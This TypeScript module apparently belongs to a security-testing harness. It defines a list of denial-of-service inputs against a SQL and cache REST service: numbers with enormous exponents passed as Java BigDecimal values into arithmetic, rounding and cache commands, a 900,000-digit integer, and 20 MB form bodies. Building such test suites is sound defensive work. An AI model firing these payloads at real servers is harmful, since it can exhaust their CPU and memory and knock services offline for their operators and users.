/** Attacks with decimals: few characters that denote very many digits. */
import { type Attack, body, command, FORM, statement } from './attack.ts';

const HUGE = '1e999999999';
const TINY = '1e-999999999';
const DECIMAL = 'java.math.BigDecimal';
const argument = (qry: string, value = HUGE) => statement(qry, { params: { arg1: value, arg1Type: DECIMAL } });

/** Operations on a parameter, one for each way to compute with it or to print it. */
const OPERATIONS: readonly string[] = [
  'select ?+1',
  'select ?>1',
  'select cast(? as varchar)',
  'select round(?, 2)',
  'select power(?, 2)',
  "select to_char(?, '9.99')",
  'update T set n = ? where id = 2',
];

/** Sends a form that ends with a text of 20 MB. */
const longText = (params: string, text: string) =>
  body(`${params}${text}... (20 MB)`, FORM, () => params + text.repeat(20_000_000 / text.length), { anyEngine: false });

export const DECIMAL_ATTACKS: readonly Attack[] = [
  ...OPERATIONS.map((qry) => argument(qry)),
  argument('select ?+1', TINY),
  statement(`select ${HUGE}+1`),
  statement(`select round(cast('${HUGE}' as decimal), 2)`),
  ...['put', 'append'].map((cmd) =>
    command({ cmd, cacheName: 'decimals', key: 'a', val: HUGE, val2: HUGE, valueType: DECIMAL }),
  ),
  command({ cmd: 'get', cacheName: 'decimals', key: HUGE, keyType: DECIMAL }),
  command({ cmd: 'put', cacheName: 'decimals', key: 'l', val: `[${HUGE}]`, valueType: 'java.util.ArrayList' }),
  command({ cmd: 'put', cacheName: 'decimals', key: 'i', val: '9'.repeat(900_000), valueType: 'java.math.BigInteger' }),
  command({ cmd: 'incr', cacheName: 'decimals', key: 'c', delta: HUGE }),
  longText('cmd=put&cacheName=decimals&key=x&val=1&exp=', '9'),
  ...['long', 'timestamp'].map((type) => longText(`cmd=put&cacheName=decimals&key=x&valueType=${type}&val=`, '9')),
];
